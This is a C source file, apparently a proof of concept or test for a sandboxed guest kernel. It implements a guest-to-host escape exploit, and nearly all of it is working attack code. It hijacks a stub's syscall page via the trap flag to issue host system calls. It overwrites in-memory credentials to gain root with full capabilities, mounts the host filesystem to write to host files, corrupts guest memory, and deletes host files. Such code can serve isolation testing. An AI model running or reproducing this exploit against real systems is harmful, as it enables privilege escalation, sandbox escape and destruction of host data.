// SPDX-License-Identifier: MIT
/*
 * A program in a node that has its stub call the host: what an attacker would do.
 *
 *	escape memory FILE	maps the guest's memory, becomes root of the guest with all capabilities,
 *				mounts the host's files and appends to FILE
 *	escape ruin STEP	overwrites every STEPth word of the guest's memory
 *	escape remove FILE	removes FILE by a system call of the host, and then by that for 32-bit programs
 *
 * A stub may call the host from its own page only. That page is readable: it holds a "syscall". The program
 * goes there with the trap flag set, so that it gets a SIGTRAP, and control, after that one instruction.
 */

#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

#define STUB ((unsigned char *)0x7fbffff000UL)
#define PAGE 4096UL
#define WINDOW 0x100000000000UL

extern char resume[];
unsigned long saved;

long call_host(long number, long a, long b, long c, long d, long e, long f, void *instruction);

__asm__(".globl call_host, resume\n"
	"call_host:\n"
	"	push %rbx; push %rbp; push %r12; push %r13; push %r14; push %r15\n"
	"	mov %rsp, saved(%rip)\n"
	"	mov 64(%rsp), %r11\n"
	"	mov %rdi, %rax; mov %rsi, %rdi; mov %rdx, %rsi; mov %rcx, %rdx\n"
	"	mov %r8, %r10; mov %r9, %r8; mov 56(%rsp), %r9\n"
	"	mov %rdi, %rbx; mov %rsi, %rcx\n" /* 32-bit calls take these */
	"	mov %rsp, %rbp; sub $1024, %rsp\n"
	"	pushq $0x2b; pushq %rbp; pushfq; orq $0x100, (%rsp); pushq $0x33; pushq %r11\n"
	"	iretq\n"
	"resume:\n"
	"	pop %r15; pop %r14; pop %r13; pop %r12; pop %rbp; pop %rbx\n"
	"	ret\n");

static void trapped(int signal, siginfo_t *info, void *context)
{
	greg_t *registers = ((ucontext_t *)context)->uc_mcontext.gregs;

	(void)signal, (void)info;
	registers[REG_RIP] = (greg_t)resume;
	registers[REG_RSP] = saved;
}

static void *find(unsigned char first, unsigned char second)
{
	for (unsigned long at = 0; at < PAGE - 1; at++)
		if (STUB[at] == first && STUB[at + 1] == second)
			return STUB + at;
	puts("the stub's page does not hold it");
	exit(1);
}

static int become_root(unsigned int *memory, unsigned long size)
{
	unsigned int uid = getuid(), found = 0;

	for (unsigned long at = 0; at < size / 4 - 32; at++) {
		unsigned int same = 0;

		while (same < 8 && memory[at + same] == uid)
			same++;
		if (same < 8 || memory[at + 8] || memory[at + 9])
			continue;
		memset(memory + at, 0, 32);
		memset(memory + at + 10, 255, 40); /* capabilities, after securebits */
		found++;
	}
	printf("changed %u credentials\n", found);
	return found;
}

/* map the guest's memory at WINDOW */
static int map_memory(unsigned long size)
{
	for (int fd = 3; fd < 40; fd++)
		if (call_host(SYS_mmap, WINDOW, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, fd, 0,
			      find(0x0f, 0x05)) == (long)WINDOW)
			return 1;
	puts("refused: memory");
	return 0;
}

static int by_memory(const char *path, unsigned long size)
{
	if (!map_memory(size) || !become_root((void *)WINDOW, size))
		return 1;
	execl("/bin/sh", "sh", "-c", "mount -t hostfs none /mnt -o hostfs=/ && echo escaped >> /mnt$0 && echo done", path,
	      NULL);
	return 1;
}

static int ruin(unsigned long step, unsigned long size)
{
	volatile unsigned long *memory = (void *)WINDOW;

	if (!map_memory(size))
		return 1;
	puts("mapped");
	for (unsigned long at = 0; at < size / sizeof(*memory); at += step)
		memory[at] = 0x4141414141414141;
	sleep(1);
	return 0;
}

static int by_remove(const char *path)
{
	char *low = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long result;

	strcpy(low, path);
	call_host(SYS_unlink, (long)low, 0, 0, 0, 0, 0, find(0x0f, 0x05));
	result = call_host(SYS_mprotect, (long)STUB, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, 0, 0, 0, find(0x0f, 0x05));
	if (result) {
		printf("refused: mprotect %ld\n", result);
		return 1;
	}
	memcpy(STUB + PAGE - 16, "\xcd\x80\x90\x90", 4);
	/* unlink() of 32-bit programs, mprotect() of others; the guest may answer it instead of the host */
	call_host(10, (long)low, 0, 0, 0, 0, 0, STUB + PAGE - 16);
	puts("tried");
	return 0;
}

int main(int count, char **words)
{
	struct sigaction action = { .sa_sigaction = trapped, .sa_flags = SA_SIGINFO };

	setvbuf(stdout, NULL, _IOLBF, 0);
	/* a call that is refused ends where the guest has nothing */
	if (count != 3 || sigaction(SIGTRAP, &action, NULL) || sigaction(SIGSEGV, &action, NULL))
		return 2;
	if (!strcmp(words[1], "ruin"))
		return ruin(strtoul(words[2], NULL, 10), 384UL << 20);
	return strcmp(words[1], "memory") ? by_remove(words[2]) : by_memory(words[2], 384UL << 20);
}
